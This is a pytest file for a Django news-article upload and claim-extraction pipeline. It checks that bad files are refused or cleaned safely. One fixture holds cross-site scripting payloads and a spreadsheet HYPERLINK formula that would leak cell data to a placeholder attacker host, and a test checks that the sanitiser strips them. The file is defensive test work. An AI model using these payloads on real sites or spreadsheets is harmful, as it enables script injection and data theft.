"""Bad input through the whole upload path: bytes → read_upload → articles_import → job.

Each bad file is either refused with an error an editor can act on (and nothing stored),
or stored and extracted without error. tests/test_uploads.py and tests/test_admin_upload.py
test the decoding and the admin form one by one; docs/reliability.md lists them all.
"""

from __future__ import annotations

import codecs
import json

import pytest

from claims import services
from claims.extraction.extractor import body_pieces
from claims.models import Article, ExtractionJob
from claims.uploads import UploadError, read_upload

pytestmark = pytest.mark.django_db

WIRE = (
    "Port Strike Ends\n\nVALMORA, March 14 (Coastal Wire) – Dockworkers returned to work on "
    "Thursday after an eight-day strike that left more than 340 container ships waiting "
    "offshore, the port authority said.\n\nThe union agreed to a 6.5 percent pay rise over "
    "two years, the régie's director said.\n"
)


def upload(name: str, data: bytes) -> services.ImportReport:
    """What the admin bulk upload and `manage.py import_articles` do with one file."""
    try:
        uploads = read_upload(name, data)
    except UploadError as exc:
        report = services.ImportReport()
        report.errors.append((name, str(exc)))
        return report
    return services.articles_import(uploads=uploads)


def extract(article: Article) -> ExtractionJob:
    job = ExtractionJob.objects.create(article=article)
    services.jobs_run(job_ids=[job.pk])
    job.refresh_from_db()
    assert job.state == ExtractionJob.State.DONE, job.error
    for claim in article.claims.all():
        assert article.body[claim.start : claim.end] == claim.text
    return job


@pytest.mark.parametrize(
    "name, data, error",
    [
        ("empty.txt", b"", "The article is empty."),
        ("blank.txt", b" \n\r\n\t \n", "The article is empty."),
        ("nul.txt", b"\x00\x00\x00", "binary"),
        ("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "binary"),
        ("archive.txt", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)), "binary"),
        ("scripts.html", b"<html><script>alert(1)</script><style>p{}</style></html>", "no article"),
        ("report.pdf", b"%PDF-1.7\n", "unsupported file type .pdf"),
        # A good line beside a bad one is kept: tests/test_adversarial_input.py.
        ("batch.jsonl", b"\n[1, 2]\n", "expected a JSON object"),
    ],
)
def test_bad_files_are_refused_with_a_clear_error_and_nothing_stored(name, data, error):
    report = upload(name, data)
    assert not report.created
    [(refused, message)] = report.errors
    assert refused.startswith(name) and error in message
    assert not Article.objects.exists() and not ExtractionJob.objects.exists()


def test_an_oversize_file_is_refused_before_it_is_decoded(settings):
    settings.NEWSFACTS_MAX_UPLOAD_BYTES = 1000
    report = upload("huge.txt", WIRE.encode() * 10)
    [(_, message)] = report.errors
    assert "the limit is 1,000 bytes" in message
    assert not Article.objects.exists()


@pytest.mark.parametrize(
    "encoding",
    [
        pytest.param(lambda t: t.encode("utf-16"), id="utf-16-bom"),
        pytest.param(lambda t: codecs.BOM_UTF16_BE + t.encode("utf-16-be"), id="utf-16be-bom"),
        pytest.param(lambda t: codecs.BOM_UTF8 + t.encode(), id="utf-8-bom"),
        pytest.param(lambda t: t.encode("cp1252"), id="windows-1252"),
    ],
)
def test_other_encodings_are_stored_as_the_same_text(encoding):
    report = upload("strike.txt", encoding(WIRE))
    [article] = report.created
    assert "340 container ships" in article.body and "régie's" in article.body
    assert "\ufeff" not in article.title + article.body
    assert extract(article).claim_count > 0


def test_a_short_latin1_upload_is_stored_as_the_same_text():
    text = "Le ministre a déclaré mardi que la réforme coûtera 4,2 milliards d'euros à l'État."
    [article] = upload("reforme.txt", text.encode("latin-1")).created
    assert article.body == text


def test_a_longer_latin1_upload_is_stored_as_the_same_text():
    text = (
        "Le ministre a déclaré mardi que la réforme des retraites coûtera 4,2 milliards "
        "d'euros à l'État français, selon le rapport publié à Paris par la Cour des comptes."
    )
    [article] = upload("reforme.txt", text.encode("latin-1")).created
    assert article.body == text


def test_invalid_utf8_is_stored_readable_not_refused_or_crashing():
    # Mostly UTF-8 with one stray byte (a file cut and pasted across encodings).
    data = WIRE.encode().replace(b"eight-day", b"eight\xff-day")
    [article] = upload("strike.txt", data).created
    assert "340 container ships" in article.body
    assert "\x00" not in article.body
    extract(article)


def test_control_characters_are_dropped_not_stored():
    data = WIRE.replace("Dockworkers", "Dock\x07work\x1bers\x0c").encode()
    [article] = upload("strike.txt", data).created
    assert "Dockworkers" in article.body
    assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in article.body)


HOSTILE_HTML = (
    """<!doctype html><html><head><title>Strike ends<script>alert(1)</script></title>
<meta http-equiv="refresh" content="0;url=javascript:alert(2)"></head>
<body onload="alert(3)"><iframe src="javascript:alert(4)"></iframe>
<article><h1>Port strike ends</h1>
<p onclick="alert(5)">Dockworkers returned to work on Thursday after an eight-day strike that
left more than 340 container ships waiting offshore, the port authority said.</p>
<p>The union agreed to a 6.5 percent pay rise <a href="javascript:alert(6)">over two years</a>.</p>
<img src=x onerror="alert(7)"><svg><script>alert(8)</script></svg>
<p>=HYPERLINK("http://evil.example/?"&A1, "click")</p>
"""
    + "<div>" * 500
    + "deep"
    + "</div>" * 500
    + "</article></body></html>"
)


def test_hostile_html_is_reduced_to_plain_text():
    [article] = upload("strike.html", HOSTILE_HTML.encode()).created
    stored = article.title + article.body
    assert "340 container ships" in article.body
    assert "alert(" not in stored and "<" not in stored and "javascript:" not in stored
    extract(article)


def test_a_duplicate_upload_is_reported_not_stored_twice():
    first = upload("strike.txt", WIRE.encode())
    again = upload("strike-copy.txt", WIRE.replace("\n\n", "\n\n\n").encode("utf-16"))
    [article] = first.created
    assert not again.created and not again.errors
    assert again.duplicates == [("strike-copy.txt", article)]
    assert Article.objects.count() == 1 and ExtractionJob.objects.count() == 1


def test_a_10000_paragraph_article_is_stored_and_extracted():
    paragraphs = [
        f"Crews cleared {i} roads in district {i % 40} on Monday, officials said."
        if i % 50 == 0
        else "It rained."
        for i in range(10_000)
    ]
    data = ("Long Storm Log\n\n" + "\n\n".join(paragraphs)).encode()
    [article] = upload("storm-log.txt", data).created
    assert article.body.count("\n\n") == 9_999
    job = extract(article)
    assert job.claim_count == article.claims.count() >= 150
    assert article.claims.filter(text__contains="cleared 9950 roads").exists()


def test_a_body_beyond_spacy_max_length_is_extracted_in_pieces(monkeypatch):
    """Uploads may be 5 MB, spaCy takes 1,000,000 characters: longer bodies are cut at
    paragraph breaks and the offsets put back (shown here with a small max_length)."""
    paragraphs = [
        f"Officials said {1000 + i} people left district {i} on Tuesday." for i in range(60)
    ]
    article = services.article_create(text="\n\n".join(paragraphs), title="Log", enqueue=False)
    whole = extract(article)
    expected = sorted(article.claims.values_list("start", "end", "text"))
    assert len(expected) == 60

    monkeypatch.setattr(services.extractor().nlp, "max_length", 1500)
    article.claims.all().delete()
    pieces = extract(article)
    assert sorted(article.claims.values_list("start", "end", "text")) == expected
    assert pieces.claim_count == whole.claim_count


@pytest.mark.parametrize("size", [1, 7, 50, 400])
def test_body_pieces_cover_the_body_exactly(size):
    body = "First para.\n\nSecond one is longer.\nWith a line.\n\n" + "x" * 120 + " tail words"
    pieces = list(body_pieces(body, size))
    assert "".join(piece for _, piece in pieces) == body
    assert all(len(piece) <= size for _, piece in pieces)
    assert all(body[offset : offset + len(piece)] == piece for offset, piece in pieces)


def test_the_command_line_and_the_desk_give_the_same_claims_for_a_long_article(
    tmp_path, monkeypatch, capsys
):
    """Both go through the engine's Extractor: long bodies cut the same way, the same
    claims at the same places (offsets of the command line index the file, of the desk
    the stored body)."""
    from django.core.management import call_command

    paragraphs = [
        f"Officials said {1000 + i} people left district {i} on Tuesday." for i in range(60)
    ]
    text = "Evacuations\n\nMERIDA, March 3 (Coastal Wire) – " + "\n\n".join(paragraphs)
    monkeypatch.setattr(services.extractor().nlp, "max_length", 1500)  # cut into pieces
    article = services.article_create(text=text, enqueue=False)
    assert len(article.body) > 1500
    extract(article)
    desk = sorted(article.claims.values_list("text", "type", "summary", "score"))
    path = tmp_path / "article.txt"
    path.write_text(text)
    call_command("extract_claims", str(path))
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    line = sorted((r["text"], r["type"], r["summary"], r["score"]) for r in rows)
    assert len(desk) == 60
    assert line == desk
    body_offset = text.index(article.body)
    assert sorted(r["start"] - body_offset for r in rows) == sorted(
        article.claims.values_list("start", flat=True)
    )
